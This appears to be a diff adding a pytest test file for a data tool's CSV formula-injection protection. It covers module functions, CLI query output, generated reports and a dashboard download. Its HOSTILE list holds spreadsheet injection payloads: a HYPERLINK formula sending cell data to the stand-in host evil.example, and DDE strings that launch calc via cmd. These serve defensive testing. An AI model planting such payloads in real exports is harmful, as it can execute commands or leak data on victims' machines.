@@ -1,0 +1,174 @@
+"""CSV output safety (signalboard.csv_safety): formula-like text is neutralised, numbers stay exact.
+
+Through the module, `signalboard query --format csv`, the files `signalboard report` writes from a
+warehouse loaded with hostile values, and the dashboard's download helper.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import shutil
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from etl.load import load_paths
+from signalboard.cli import main
+from signalboard.csv_safety import FORMULA_PREFIXES, neutralise_cell, neutralise_frame, to_csv_bytes
+from signalboard.report import write_report
+from signalboard.settings import Settings
+from tests.paths import REPO_ROOT
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_formula_text_is_prefixed(value: str) -> None:
+    assert neutralise_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "data_analyst",
+        "a=b",
+        "x-1",
+        "'already quoted",
+        "",
+        " =leading space is not evaluated",
+        -3,
+        -3.25,
+        0.1 + 0.2,
+        10**18,
+        None,
+        dt.date(2024, 1, 31),
+        pd.Timestamp("2024-01-31 08:00"),
+        True,
+    ],
+)
+def test_everything_else_is_unchanged(value: object) -> None:
+    assert neutralise_cell(value) is value
+
+
+def test_frame_numbers_and_dates_exact_text_neutralised() -> None:
+    frame = pd.DataFrame(
+        {
+            "role": ['=HYPERLINK("http://x")', "analyst", "-5"],
+            "delta": [-1.5, 0.1 + 0.2, -7.0],
+            "count": [-3, 0, 12],
+            "day": pd.to_datetime(["2024-01-01", "2024-02-29", "2024-12-31"]),
+            "flag": [True, False, True],
+            "@total": [1, 2, 3],
+        }
+    )
+    safe = neutralise_frame(frame)
+    assert safe["role"].tolist() == ['\'=HYPERLINK("http://x")', "analyst", "'-5"]
+    assert list(safe.columns) == ["role", "delta", "count", "day", "flag", "'@total"]
+    # Numeric, date and boolean columns are the same objects' values, so CSV is identical there.
+    plain = frame.drop(columns=["role", "@total"]).to_csv(index=False)
+    assert safe.drop(columns=["role", "'@total"]).to_csv(index=False) == plain
+    text = to_csv_bytes(frame).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][1] == "-1.5" and rows[2][1] == "0.30000000000000004" and rows[1][2] == "-3"
+    assert rows[2][3] == "2024-02-29"
+    # The input frame is not modified.
+    assert frame["role"].iloc[0].startswith("=")
+
+
+def test_object_column_mixing_numbers_and_text() -> None:
+    frame = pd.DataFrame({"value": [-4, "=1+1", 2.5, None]}, dtype=object)
+    assert neutralise_frame(frame)["value"].tolist()[:3] == [-4, "'=1+1", 2.5]
+
+
+def test_categorical_column() -> None:
+    frame = pd.DataFrame({"role": pd.Categorical(["@x", "y"])})
+    assert neutralise_frame(frame)["role"].tolist() == ["'@x", "y"]
+
+
+def _no_dangerous_cell(text: str) -> list[str]:
+    """Every cell of a CSV text that a spreadsheet would evaluate."""
+    return [
+        cell
+        for row in csv.reader(io.StringIO(text))
+        for cell in row
+        if cell.startswith(FORMULA_PREFIXES) and not _is_number(cell)
+    ]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.fixture(scope="module")
+def hostile_settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
+    """The sample exports with formula text in role, source and grader ids, loaded for real."""
+    folder = tmp_path_factory.mktemp("hostile")
+    exports = folder / "exports"
+    shutil.copytree(REPO_ROOT / "data" / "sample", exports)
+    applications = pd.read_csv(exports / "applications.csv", dtype=str, keep_default_na=False)
+    applications.loc[applications.index % 3 == 0, "source"] = HOSTILE[0]
+    applications.loc[applications.index % 3 == 1, "source"] = HOSTILE[3]
+    applications.to_csv(exports / "applications.csv", index=False)
+    scores = pd.read_csv(exports / "scores.csv", dtype=str, keep_default_na=False)
+    grader = next(c for c in scores.columns if "grader" in c)
+    scores.loc[scores.index % 2 == 0, grader] = HOSTILE[1]
+    scores.to_csv(exports / "scores.csv", index=False)
+    settings = Settings(
+        db_path=folder / "warehouse.duckdb", pseudonym_key_file=folder / "pseudonym.key"
+    )
+    load_paths([exports], settings=settings, progress=False)
+    return settings
+
+
+def test_query_csv_output_is_neutralised(
+    hostile_settings: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    file = tmp_path / "sources.sql"
+    file.write_text(
+        "select source, count(*) as n, -count(*) as negative, min(applied_at)::date as first "
+        "from applications group by source order by source\n"
+    )
+    status = main(["query", str(file), "--db", str(hostile_settings.db_path), "--format", "csv"])
+    out, err = capsys.readouterr()
+    assert status == 0, err
+    assert _no_dangerous_cell(out) == []
+    frame = pd.read_csv(io.StringIO(out))
+    assert "'" + HOSTILE[0] in frame["source"].tolist()
+    assert (frame["negative"] == -frame["n"]).all() and (frame["negative"] < 0).all()
+
+
+def test_report_csvs_are_neutralised(hostile_settings: Settings, tmp_path: Path) -> None:
+    written = write_report(settings=hostile_settings, out_dir=tmp_path / "report")
+    csvs = [path for path in written if path.suffix == ".csv"]
+    assert csvs
+    seen = ""
+    for path in csvs:
+        text = path.read_text(encoding="utf-8")
+        assert _no_dangerous_cell(text) == [], path.name
+        seen += text
+    # The hostile values did reach the report, as text.
+    assert "'" + HOSTILE[3] in seen or "'" + HOSTILE[0] in seen or "'" + HOSTILE[1] in seen
+
+
+def test_dashboard_download_is_neutralised(monkeypatch: pytest.MonkeyPatch) -> None:
+    from dashboard import ui
+
+    captured: dict[str, object] = {}
+    monkeypatch.setattr(ui.st, "download_button", lambda label, **kwargs: captured.update(kwargs))
+    ui.download_csv(pd.DataFrame({"role": ["=1+1"], "delta": [-2]}), "roles", key="k")
+    assert captured["data"] == b"role,delta\n'=1+1,-2\n"
+    assert captured["file_name"] == "roles.csv"
